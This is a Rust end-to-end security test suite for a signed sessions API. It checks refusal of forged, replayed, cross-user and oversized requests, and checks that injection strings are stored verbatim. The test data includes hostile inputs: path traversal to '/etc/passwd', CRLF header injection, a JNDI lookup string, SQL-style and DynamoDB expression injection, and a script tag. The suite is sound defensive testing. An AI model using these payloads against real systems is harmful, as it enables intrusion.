//! The security matrix, one test per row: what must be refused is refused with the right
//! code and leaves the table untouched; what must be stored is stored verbatim.

use std::time::{Duration, SystemTime};

use serde_json::{Value, json};
use sessions_e2e::{Signed, Stack, alice, bob, new_workspace};
use sessions_function::settings::AllowList;

fn body(title: &str, summary: &str, observed_at: &str) -> Value {
    json!({"title": title, "summary": summary, "finished_at": null, "observed_at": observed_at})
}

fn now() -> String {
    sessions_core::Timestamp::now().to_string()
}

async fn seeded(
    stack: &Stack,
    ws: &str,
) -> Option<std::collections::HashMap<String, aws_sdk_dynamodb::types::AttributeValue>> {
    let reply = Signed::new("PUT", stack.session_url(ws, "s1"))
        .json(&body("original", "original", &now()))
        .send_as(alice())
        .await;
    assert_eq!(reply.status, 201);
    stack.raw_item(ws, "s1").await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unsigned_requests_are_refused() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let before = seeded(&stack, &ws).await;
    let put = Signed::new("PUT", stack.session_url(&ws, "s1")).json(&body("x", "x", &now()));
    put.send_with(vec![])
        .await
        .expect_error(401, "unauthenticated");
    let get = Signed::new("GET", stack.session_url(&ws, "s1"));
    get.send_with(vec![])
        .await
        .expect_error(401, "unauthenticated");
    // A header that only looks like a signature is not one.
    let fake = Signed::new("PUT", stack.session_url(&ws, "s1")).json(&body("x", "x", &now()));
    fake.send_with(vec![(
        "authorization".into(),
        "AWS4-HMAC-SHA256 nonsense".into(),
    )])
    .await
    .expect_error(403, "invalid_signature");
    assert_eq!(stack.raw_item(&ws, "s1").await, before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wrong_secret_is_refused() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let before = seeded(&stack, &ws).await;
    let put = Signed::new("PUT", stack.session_url(&ws, "s1")).json(&body("x", "x", &now()));
    let headers = put.signature_headers(
        alice().access_key_id,
        bob().secret_access_key,
        SystemTime::now(),
    );
    put.send_with(headers)
        .await
        .expect_error(403, "invalid_signature");
    assert_eq!(stack.raw_item(&ws, "s1").await, before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signature_over_a_different_body_is_refused() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let before = seeded(&stack, &ws).await;
    let signed =
        Signed::new("PUT", stack.session_url(&ws, "s1")).json(&body("harmless", "x", &now()));
    let headers = signed.signature_headers(
        alice().access_key_id,
        alice().secret_access_key,
        SystemTime::now(),
    );
    let swapped = signed.body(serde_json::to_vec(&body("hijacked", "x", &now())).unwrap());
    swapped
        .send_with(headers)
        .await
        .expect_error(403, "invalid_signature");
    // Nor does it authorize another path.
    let signed =
        Signed::new("PUT", stack.session_url(&ws, "s1")).json(&body("harmless", "x", &now()));
    let headers = signed.signature_headers(
        alice().access_key_id,
        alice().secret_access_key,
        SystemTime::now(),
    );
    let mut moved = signed;
    moved.url = stack.session_url(&ws, "s2");
    moved
        .send_with(headers)
        .await
        .expect_error(403, "invalid_signature");
    assert_eq!(stack.raw_item(&ws, "s1").await, before);
    assert!(stack.raw_item(&ws, "s2").await.is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_replay_older_than_five_minutes_is_refused_and_a_fresh_replay_changes_nothing() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let observed = sessions_core::Timestamp::now()
        .plus_seconds(-400)
        .to_string();
    let old =
        Signed::new("PUT", stack.session_url(&ws, "s1")).json(&body("captured", "x", &observed));
    let headers = old.signature_headers(
        alice().access_key_id,
        alice().secret_access_key,
        SystemTime::now() - Duration::from_secs(301 + 5),
    );
    old.send_with(headers)
        .await
        .expect_error(403, "request_expired");
    assert!(stack.raw_item(&ws, "s1").await.is_none());

    // Within the window a captured request can be sent again: the observed_at rule answers 409.
    let first = Signed::new("PUT", stack.session_url(&ws, "s1")).json(&body("once", "x", &now()));
    let headers = first.signature_headers(
        alice().access_key_id,
        alice().secret_access_key,
        SystemTime::now(),
    );
    let replay = Signed {
        method: first.method,
        url: first.url.clone(),
        headers: first.headers.clone(),
        body: first.body.clone(),
    };
    assert_eq!(first.send_with(headers.clone()).await.status, 201);
    let before = stack.raw_item(&ws, "s1").await;
    replay.send_with(headers).await.expect_error(409, "stale");
    assert_eq!(stack.raw_item(&ws, "s1").await, before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_users_session_is_refused() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let before = seeded(&stack, &ws).await;
    let put =
        Signed::new("PUT", stack.session_url(&ws, "s1")).json(&body("bob's now", "x", &now()));
    put.send_as(bob()).await.expect_error(403, "not_owner");
    let create_only = Signed::new("PUT", stack.session_url(&ws, "s1"))
        .header("if-none-match", "*")
        .json(&body("bob's now", "x", &now()));
    create_only
        .send_as(bob())
        .await
        .expect_error(412, "already_exists");
    assert_eq!(stack.raw_item(&ws, "s1").await, before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workspace_outside_the_allow_list_is_refused() {
    let allowed = new_workspace();
    let stack = Stack::with_allow_list(AllowList::parse(&allowed).unwrap()).await;
    let other = new_workspace();
    for (method, url) in [
        ("PUT", stack.session_url(&other, "s1")),
        ("GET", stack.session_url(&other, "s1")),
        (
            "GET",
            format!("{}/v1/workspaces/{other}/sessions", stack.url),
        ),
    ] {
        let mut request = Signed::new(method, url);
        if method == "PUT" {
            request = request.json(&body("x", "x", &now()));
        }
        request
            .send_as(alice())
            .await
            .expect_error(403, "workspace_not_allowed");
    }
    assert_eq!(stack.item_count().await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn path_traversal_and_odd_unicode_in_session_ids_are_refused() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let before = seeded(&stack, &ws).await;
    let odd = [
        "..",
        ".",
        "%2e%2e",
        "%2E%2E",
        "s1%2F..%2F..",
        "a%2Fb",
        "a%5Cb",
        "%00",
        "s1%00",
        "a%20b",
        "%C3%A9",
        "%E2%80%AE1s",
        "%F0%9F%92%A5",
        "%EF%BC%8E%EF%BC%8E",
        "s1%0D%0AX-Injected:%201",
        "%FF%FE",
        "a%",
    ];
    for id in odd {
        let reply = Signed::new("PUT", stack.session_url(&ws, id))
            .json(&body("x", "x", &now()))
            .send_raw_as(alice())
            .await;
        assert!(
            reply.status == 400 || reply.status == 404,
            "{id}: {} {}",
            reply.status,
            reply.json
        );
        assert!(
            reply.json["error"]["code"].as_str().is_some(),
            "{id}: {}",
            reply.json
        );
    }
    // Paths that climb out of the route.
    for path in [
        "/v1/workspaces/../../etc/passwd",
        "/v1/workspaces/x/sessions/../../../x",
        "//v1/workspaces",
    ] {
        let reply = Signed::new("GET", format!("{}{path}", stack.url))
            .send_raw_as(alice())
            .await;
        assert!(
            reply.status == 400 || reply.status == 404,
            "{path}: {} {}",
            reply.status,
            reply.json
        );
    }
    assert_eq!(stack.raw_item(&ws, "s1").await, before);
    assert_eq!(stack.item_count().await, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_headers_and_bodies_are_refused() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let big = "x".repeat(70 * 1024);
    let reply = Signed::new("PUT", stack.session_url(&ws, "s1"))
        .header("content-type", "application/json")
        .body(big.clone())
        .send_as(alice())
        .await;
    reply.expect_error(413, "payload_too_large");
    // A summary within the body limit but over its own is a 400 naming the field.
    let long = Signed::new("PUT", stack.session_url(&ws, "s1"))
        .json(&body("t", &"s".repeat(20_000), &now()))
        .send_as(alice())
        .await;
    long.expect_error(400, "invalid_summary");
    // Headers beyond what the server reads are refused by the HTTP layer, not with a 500.
    let client = sessions_e2e::http_client();
    let response = client
        .get(stack.session_url(&ws, "s1"))
        .header("x-padding", "p".repeat(64 * 1024))
        .send()
        .await
        .expect("the server answers");
    let status = response.status().as_u16();
    assert!(
        status == 431 || status == 400 || status == 413,
        "oversized headers: {status}"
    );
    assert_eq!(stack.item_count().await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn expression_injection_strings_are_stored_verbatim() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let nasty = [
        "#title = :summary",
        ":me) OR attribute_not_exists(session_id",
        "') OR 1=1 --",
        "${jndi:ldap://x/a}",
        "{{7*7}} <script>alert(1)</script>",
        "SET #uuid = :uuid REMOVE finished_at",
        "uuid",
        "\u{202e}reversed",
    ];
    for (i, text) in nasty.iter().enumerate() {
        let id = format!("inj:{i}");
        let summary = format!("{text}\nline two with {text}");
        let reply = Signed::new("PUT", stack.session_url(&ws, &id))
            .json(&body(text, &summary, &now()))
            .send_as(alice())
            .await;
        assert_eq!(reply.status, 201, "{text}: {}", reply.json);
        let got = Signed::new("GET", stack.session_url(&ws, &id))
            .send_as(bob())
            .await;
        assert_eq!(got.json["title"], *text);
        assert_eq!(got.json["summary"], summary.as_str());
        let raw = stack.raw_item(&ws, &id).await.expect("row");
        assert_eq!(raw["title"].as_s().unwrap(), text);
        assert_eq!(raw["summary"].as_s().unwrap(), &summary);
        assert_eq!(
            raw["user_arn"].as_s().unwrap(),
            alice().arn,
            "nothing else was touched"
        );
    }
    assert_eq!(stack.item_count().await, nasty.len());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn session_ids_shaped_like_expression_names_and_values_are_keys_verbatim() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let before = seeded(&stack, &ws).await;
    // The session id grammar allows ':' '.' '-' '_': ids that read like the store's own
    // placeholders must still be plain keys.
    let ids = [
        ":me",
        ":observed_at",
        "#uuid",
        "s1:uuid",
        "-",
        "_",
        ":",
        "..:",
    ];
    let mut stored = 0;
    for id in ids {
        let reply = Signed::new("PUT", stack.session_url(&ws, id))
            .json(&body(id, id, &now()))
            .send_as(bob())
            .await;
        if id.contains('#') {
            // '#' starts a URL fragment: what reaches the server is the collection path.
            assert!(
                reply.status >= 400 && reply.status < 500,
                "{id}: {}",
                reply.json
            );
            continue;
        }
        assert_eq!(reply.status, 201, "{id}: {}", reply.json);
        assert_eq!(reply.json["session_id"], id);
        let raw = stack
            .raw_item(&ws, id)
            .await
            .expect("row under its own key");
        assert_eq!(raw["title"].as_s().unwrap(), id);
        assert_eq!(raw["user_arn"].as_s().unwrap(), bob().arn);
        stored += 1;
    }
    assert_eq!(
        stack.raw_item(&ws, "s1").await,
        before,
        "alice's row untouched"
    );
    assert_eq!(stack.item_count().await, stored + 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn expression_injection_in_timestamps_and_workspace_is_refused() {
    let stack = Stack::start().await;
    let ws = new_workspace();
    let before = seeded(&stack, &ws).await;
    let nasty = [
        ":observed_at",
        "2026-11-24T07:02:28.559Z OR 1=1",
        "if_not_exists(#created_at, :now)",
        "#observed_at < :observed_at",
    ];
    for text in nasty {
        Signed::new("PUT", stack.session_url(&ws, "s1"))
            .json(&body("t", "s", text))
            .send_as(alice())
            .await
            .expect_error(400, "invalid_timestamp");
        Signed::new("PUT", stack.session_url(&ws, "s1"))
            .json(&json!({"title": "t", "summary": "s", "finished_at": text, "observed_at": now()}))
            .send_as(alice())
            .await
            .expect_error(400, "invalid_timestamp");
        let workspace = urlencoding(text);
        Signed::new("PUT", stack.session_url(&workspace, "s1"))
            .json(&body("t", "s", &now()))
            .send_as(alice())
            .await
            .expect_error(400, "invalid_workspace_uuid");
    }
    assert_eq!(stack.raw_item(&ws, "s1").await, before, "row untouched");
    assert_eq!(stack.item_count().await, 1);
}

/// Percent-encodes everything but unreserved characters, as a careful client would.
fn urlencoding(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}
